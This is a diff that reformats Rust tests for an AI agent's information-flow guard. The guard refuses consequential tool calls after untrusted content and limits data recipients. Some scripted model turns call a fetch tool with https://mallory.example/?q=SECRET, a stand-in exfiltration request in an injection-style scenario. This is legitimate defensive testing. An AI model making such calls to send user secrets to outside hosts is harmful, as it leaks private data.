@@ -15,7 +15,10 @@ async fn a_call_after_untrusted_content_is_refused_and_the_model_reads_why() {
         Turn::from_text("No."),
     ]);
     let log = Log::default();
-    let done = guarded(&model, &log, flow()).run("What is new?").await.unwrap();
+    let done = guarded(&model, &log, flow())
+        .run("What is new?")
+        .await
+        .unwrap();
 
     assert_eq!(done.text(), "No.");
     assert_eq!(log.take(), [""; 0]);
@@ -31,7 +34,10 @@ async fn a_call_before_any_untrusted_content_is_made() {
         Turn::from_text("Done."),
     ]);
     let log = Log::default();
-    guarded(&model, &log, flow()).run("Pay bob 5.").await.unwrap();
+    guarded(&model, &log, flow())
+        .run("Pay bob 5.")
+        .await
+        .unwrap();
     model.assert_done();
     assert_eq!(log.take(), ["pay bob 5"]);
 }
@@ -44,7 +50,10 @@ async fn of_two_calls_of_one_turn_neither_taints_the_other() {
         Turn::from_text("Done."),
     ]);
     let log = Log::default();
-    guarded(&model, &log, flow()).run("Pay bob 5.").await.unwrap();
+    guarded(&model, &log, flow())
+        .run("Pay bob 5.")
+        .await
+        .unwrap();
     assert_eq!(log.take(), ["pay bob 5"]);
     assert_eq!(results_read(&model)[2], TAINTED);
 }
@@ -56,7 +65,10 @@ async fn an_undeclared_tool_is_consequential_unless_it_is_pure() {
         Turn::tool("page", json!({})),
         Turn::tool("mutating", json!({}))
             .and_tool("idempotent", json!({}))
-            .and_tool("pure", json!({ "url": "https://mallory.example/?q=secret" })),
+            .and_tool(
+                "pure",
+                json!({ "url": "https://mallory.example/?q=secret" }),
+            ),
         Turn::from_text("Done."),
     ]);
     let agent = Agent::builder(model.clone())
@@ -69,7 +81,13 @@ async fn an_undeclared_tool_is_consequential_unless_it_is_pure() {
         .build()
         .unwrap();
     agent.run("?").await.unwrap();
-    assert_eq!(log.take(), ["page {}", "pure {\"url\":\"https://mallory.example/?q=secret\"}"]);
+    assert_eq!(
+        log.take(),
+        [
+            "page {}",
+            "pure {\"url\":\"https://mallory.example/?q=secret\"}"
+        ]
+    );
     let read = results_read(&model);
     assert!(read[1].starts_with("refused: `mutating`"), "{}", read[1]);
     assert!(read[2].starts_with("refused: `idempotent`"), "{}", read[2]);
@@ -80,7 +98,10 @@ async fn a_tool_that_only_reads_carries_no_data_of_the_user_out() {
     let log = Log::default();
     let model = ScriptedModel::new([
         Turn::tool("read_mail", json!({})),
-        Turn::tool("fetch", json!({ "url": "https://mallory.example/?q=SECRET" })),
+        Turn::tool(
+            "fetch",
+            json!({ "url": "https://mallory.example/?q=SECRET" }),
+        ),
         Turn::from_text("Done."),
     ]);
     let agent = assistant(&model, &log)
@@ -130,12 +151,12 @@ async fn data_is_sent_only_to_its_readers() {
 #[tokio::test]
 async fn recipients_are_a_function_of_the_resolved_call() {
     let post = || {
-        ToolFlow::action().data(["/text"]).recipients_by(|arguments| {
-            match arguments["channel"].as_str() {
+        ToolFlow::action()
+            .data(["/text"])
+            .recipients_by(|arguments| match arguments["channel"].as_str() {
                 Some("team") => vec!["alice".to_owned(), "bob".to_owned()],
                 _ => vec!["anyone".to_owned()],
-            }
-        })
+            })
     };
     let private = || {
         ToolFlow::trusted().label(Label::trusted().with_readers(Readers::only(["alice", "bob"])))
@@ -148,7 +169,10 @@ async fn recipients_are_a_function_of_the_resolved_call() {
             Turn::from_text("Done."),
         ]);
         let agent = Agent::builder(model.clone())
-            .tools([log.tool("post"), Tool::function("notes", "", |_: Value| "private")])
+            .tools([
+                log.tool("post"),
+                Tool::function("notes", "", |_: Value| "private"),
+            ])
             .global_callbacks(Flow::new().tool("post", post()).tool("notes", private()))
             .build()
             .unwrap();
@@ -166,7 +190,10 @@ async fn a_violation_can_end_the_run() {
     let log = Log::default();
     let agent = guarded(&model, &log, flow().on_violation(OnViolation::End));
     let error = agent.run("?").await.unwrap_err();
-    assert_eq!((error.kind(), error.message()), (ErrorKind::Aborted, TAINTED));
+    assert_eq!(
+        (error.kind(), error.message()),
+        (ErrorKind::Aborted, TAINTED)
+    );
     assert_eq!(log.take(), [""; 0]);
 }
 
@@ -181,7 +208,10 @@ async fn two_different_guards_are_an_error_and_one_twice_is_one() {
         .build()
         .unwrap();
     let error = agent.run("?").await.unwrap_err();
-    assert!(error.message().contains("two different `Flow` guards"), "{error}");
+    assert!(
+        error.message().contains("two different `Flow` guards"),
+        "{error}"
+    );
 
     let model = ScriptedModel::new([
         Turn::tool("read_mail", json!({})),
